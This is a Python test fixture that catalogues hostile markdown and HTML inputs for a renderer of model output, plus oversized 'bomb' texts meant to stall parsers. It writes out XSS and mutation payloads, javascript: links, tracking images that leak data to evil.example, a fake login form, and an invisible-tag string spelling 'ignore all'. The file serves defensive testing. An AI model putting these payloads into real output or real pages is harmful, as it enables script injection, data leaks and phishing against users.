"""What a model might say to run a script, to load something, to lead astray, or to kill the tab: by name."""

from __future__ import annotations

from collections.abc import Mapping

#: What a payload does if it is ever run.
FIRE = "window.__fired=1"

#: Where a payload loads from, or leads to: a name that nothing on this machine has.
ELSEWHERE = "https://evil.example"

_SCRIPTS: Mapping[str, str] = {
    "script": f"<script>{FIRE}</script>",
    "script in a sentence": f"Hello <script>{FIRE}</script> there",
    "script from elsewhere": f'<script src="{ELSEWHERE}/x.js"></script>',
    "script in capitals": f"<ScRiPt>{FIRE}</sCrIpT>",
    "script in a list": f"- one\n- <script>{FIRE}</script>\n- two",
    "script in a table": f"| a | b |\n|---|---|\n| <script>{FIRE}</script> | x |",
    "script in a quote": f"> <script>{FIRE}</script>",
    "script in a heading": f"# <script>{FIRE}</script>",
    "script in emphasis": f"**<script>{FIRE}</script>** and *<script>{FIRE}</script>*",
    "script in a code span": f"`<script>{FIRE}</script>`",
    "script in a module": f'<script type="module">{FIRE}</script>',
    "image that fails": f'<img src="x" onerror="{FIRE}">',
    "image that fails, without spaces": f'<img/src="x"/onerror="{FIRE}">',
    "image that is broken off": f'<img src="x" onerror="{FIRE}" ',
    "svg that loads": f'<svg onload="{FIRE}"></svg>',
    "svg with a script": f"<svg><script>{FIRE}</script></svg>",
    "svg animation": f'<svg><animate onbegin="{FIRE}" attributeName="x" dur="1s"></animate></svg>',
    "svg use of elsewhere": f'<svg><use href="{ELSEWHERE}/x.svg#a"></use></svg>',
    "details that open": f'<details open ontoggle="{FIRE}">x</details>',
    "input with focus": f'<input autofocus onfocus="{FIRE}">',
    "body that loads": f'<body onload="{FIRE}">',
    "video source that fails": f'<video><source onerror="{FIRE}"></video>',
    "marquee": f'<marquee onstart="{FIRE}">x</marquee>',
    "pointer": f'<div onpointerover="{FIRE}" onmouseover="{FIRE}">x</div>',
}

_MUTATIONS: Mapping[str, str] = {
    "noscript mutation": f'<noscript><p title="</noscript><img src=x onerror={FIRE}>">',
    "mathml mutation": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={FIRE}&gt;">'
    ),
    "svg style mutation": f'<svg></p><style><a id="</style><img src=1 onerror={FIRE}>">',
    "form mutation": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{FIRE}">',
    "table mutation": f'<table><td><svg><desc><table><img src="x" onerror="{FIRE}">',
    "template": f'<template><img src="x" onerror="{FIRE}"></template>',
    "comment": f'<!--><img src="x" onerror="{FIRE}">-->',
    "comment with a dash": f'<!-- --!><img src="x" onerror="{FIRE}"> -->',
    "cdata": f'<![CDATA[<img src="x" onerror="{FIRE}">]]>',
    "processing instruction": f'<?xml version="1.0"?><img src="x" onerror="{FIRE}">',
    "textarea": f'<textarea></textarea><img src="x" onerror="{FIRE}">',
    "title": f'<title></title><img src="x" onerror="{FIRE}">',
    "entities for tags": f'&lt;img src="x" onerror="{FIRE}"&gt; &#60;script&#62;{FIRE}&#60;/script&#62;',
    "entities twice": f"&amp;lt;script&amp;gt;{FIRE}&amp;lt;/script&amp;gt;",
}

_FRAMES: Mapping[str, str] = {
    "iframe": f'<iframe src="javascript:{FIRE}"></iframe>',
    "iframe of a document": f'<iframe srcdoc="<script>parent.{FIRE}</script>"></iframe>',
    "iframe of elsewhere": f'<iframe src="{ELSEWHERE}/"></iframe>',
    "object": f'<object data="javascript:{FIRE}"></object>',
    "embed": f'<embed src="{ELSEWHERE}/x.swf">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    "base": f'<base href="{ELSEWHERE}/">',
    "style sheet": f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    "prefetch": f'<link rel="prefetch" href="{ELSEWHERE}/x"><link rel="dns-prefetch" href="//evil.example">',
    "style": f'<style>@import url("{ELSEWHERE}/x.css"); * {{ background: url("{ELSEWHERE}/x.png") }}</style>',
    "overlay": f'<div style="position:fixed;inset:0;background:url({ELSEWHERE}/x.png)">x</div>',
    "form": f'<form action="{ELSEWHERE}/"><input name="password"><button>Log in</button></form>',
    "form by a button": f'<button formaction="javascript:{FIRE}">x</button>',
    "clobbering": '<a id="document"></a><form id="test" name="getElementById"><input name="attributes"></form>',
    "clobbering by images": '<img name="cookie"><img id="chat" name="body">',
    "media": f'<video poster="{ELSEWHERE}/p.png" src="{ELSEWHERE}/v.mp4"></video><audio src="{ELSEWHERE}/a" autoplay>',
    "dangling markup": f"<img src='{ELSEWHERE}/?leak=\n\nthe rest of the answer",
    "table background": f'<table background="{ELSEWHERE}/x.png"><tr><td>x</td></tr></table>',
}

_LINKS: Mapping[str, str] = {
    "javascript link": f"[click](javascript:{FIRE})",
    "javascript link in capitals": f"[click](JaVaScRiPt:{FIRE})",
    "javascript link with a tab": f"[click](java&#9;script:{FIRE})",
    "javascript link with a line end": f"[click](java&NewLine;script:{FIRE} 'x')",
    "javascript link by entities": f"[click](&#106;avascript&colon;{FIRE}) [click](&#x6A;avascript:{FIRE})",
    "javascript link behind a control character": f"[click](<\x01javascript:{FIRE}>)",
    "javascript link in angles": f"[click](< javascript:{FIRE}>)",
    "javascript link by escapes": f"[click](javascript\\:{FIRE})",
    "javascript autolink": f"<javascript:{FIRE}>",
    "javascript by reference": f"[click][1] and [1]\n\n[1]: javascript:{FIRE}",
    "javascript by a reference of its own": f"[a]: <javascript:{FIRE}> 'title'\n\n[a]",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": f"[click](data:text/html,<script>{FIRE}</script>)",
    "data link in base64": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19maXJlZD0xPC9zY3JpcHQ+)",
    "blob and file links": "[click](blob:https://example.com/1) [click](file:///etc/passwd)",
    "view-source link": "[click](view-source:https://example.com/) [click](filesystem:https://example.com/)",
    "relative links": "[click](/api/stream) [click](//evil.example/) [click](?q) [click](#id) [c](\\\\evil.example)",
    "link that breaks out of its attribute": f'[click](https://example.com/"onmouseover="{FIRE})',
    "link title that breaks out": f"[click](https://example.com '\" onmouseover=\"{FIRE}')",
    "link text with markup": f'[<img src="x" onerror="{FIRE}">](https://example.com)',
    "link that says another host": f"[https://good.example]({ELSEWHERE}/) [good.example](https://good.example@evil.example)",
    "link to a host in another script": "[paypal](https://www.pаypal.com/)",
    "link with a turned text": f"[\u202emoc.live\u202c https://good.example]({ELSEWHERE})",
    "prototype as a label": "[a][__proto__] [b][constructor] [toString]\n\n[__proto__]: javascript:1\n[constructor]: https://x.example",
}

_PICTURES: Mapping[str, str] = {
    "image": f"![tracker]({ELSEWHERE}/x.png?leak=secret)",
    "image by reference": f"![tracker][p]\n\n[p]: {ELSEWHERE}/x.png",
    "image in a link": f"[![tracker]({ELSEWHERE}/x.png)]({ELSEWHERE}/)",
    "image of a script": f"![x](javascript:{FIRE})",
    "image whose text breaks out": f'!["onerror="{FIRE}]({ELSEWHERE}/x.png "title\\" onerror=\\"{FIRE}")',
    "image without a text": f"![]({ELSEWHERE}/x.png)",
    "image of data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
}

_CODE: Mapping[str, str] = {
    "code language that breaks out": f'```"><img/src="x"/onerror="{FIRE}">\ncode\n```',
    "code language as a class": f'```js" onclick="{FIRE}\ncode\n```',
    "code that ends its element": f"```html\n</code></pre><img src=x onerror={FIRE}>\n```",
    "code like a highlighter's output": f'```html\n<span class="token-str" onclick="{FIRE}">&lt;img&gt;</span>\n```',
    "code language of the prototype": "```__proto__\na\n```\n\n```constructor\nb\n```\n\n```../../secret\nc\n```",
    "code that turns direction": '```js\nif (role !== "user\u202e \u2066// a\u2069 \u2066")\n```\n\n`a\u200b\u202ec`',
    "terminal sequences": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07\n\n```\n\x1b[2J\n```",
    "nul": f"a\0b <scr\0ipt>{FIRE}</scr\0ipt> [c](java\0script:{FIRE})",
    "invisible tags": "".join(chr(0xE0000 + ord(sign)) for sign in "ignore all")
    + "[a\u200bb\u2060c](https://example.com)",
    "formula": f"$\\href{{javascript:{FIRE}}}{{x}}$ and $$\\unicode{{x3c}}<img src=x onerror={FIRE}>$$",
    "autolinks": f'https://evil.example/"onmouseover={FIRE} www.evil.example/<script>{FIRE}</script> a@b.co?{FIRE}',
}

#: Texts that must do nothing but be read.
PAYLOADS: Mapping[str, str] = {**_SCRIPTS, **_MUTATIONS, **_FRAMES, **_LINKS, **_PICTURES, **_CODE}


def _columns(sign: str) -> str:
    return f"|{sign}" * 5_000 + "|\n"


#: Texts that are too much for a careless reader: too deep, too long, or too many.
BOMBS: Mapping[str, str] = {
    "3 000 nested quotes": ">" * 3_000 + " deep",
    "quotes that go on lazily": "".join(">" * 30 + " a\nb\n" for _ in range(300)),
    "a staircase of quotes": "".join(">" * (31 - step) + " a\n" for step in range(31)),
    "400 nested lists": "\n".join("  " * depth + "- a" for depth in range(400)),
    "2 000 lists in a line": "- " * 2_000 + "deep",
    "20 000 openings of emphasis": "*a " * 20_000,
    "20 000 emphases": "*a* " * 20_000,
    "5 000 nested emphases": "**a " * 5_000 + "b** " * 5_000,
    "20 000 brackets": "[" * 20_000,
    "20 000 nested brackets": "[" * 20_000 + "a" + "]" * 20_000,
    "10 000 links that do not end": "[a](b" * 10_000 + ")",
    "3 000 nested links": "[a" * 3_000 + "](https://example.com)" * 3_000,
    "10 000 links": "[a](https://example.com/) " * 10_000,
    "10 000 autolinks": "https://example.com/a " * 10_000,
    "a table of 5 000 columns": _columns("a") + _columns("-") + _columns("b"),
    "a table of a million cells": "|a" * 90 + "|\n" + "|-" * 90 + "|\n" + "x\n" * 12_000,
    "a megabyte without a space": "a" * 1_000_000,
    "a megabyte in a line": "word " * 200_000,
    "100 kB of backticks": "`" * 100_000,
    "runs of backticks": "".join("`" * (number % 50 + 1) + "a" for number in range(4_000)),
    "a megabyte of code": "```js\n" + "let a = 1; // x\n" * 60_000,
    "a megabyte of code in a line": "```js\n" + "a" * 1_000_000,
    "code that no grammar likes": "```js\n" + "/*\"'`${<\n" * 1_800 + "\n```\n",
    "code of long words": "```ts\n" + ("_" * 490 + "\n") * 33 + "\n```\n",
    "code of short words": "```js\n" + ("a: " * 150 + "\n") * 35 + "\n```\n",
    "50 000 angles": "<" * 50_000,
    "20 000 formulas": "$a" * 20_000,
    "20 000 openings of formulas": "\\(" * 20_000,
    "20 000 definitions": "".join(f"[a{number}]: https://example.com/{number}\n" for number in range(20_000)),
    "5 000 empty items": "- a\n\n\n" * 5_000,
}
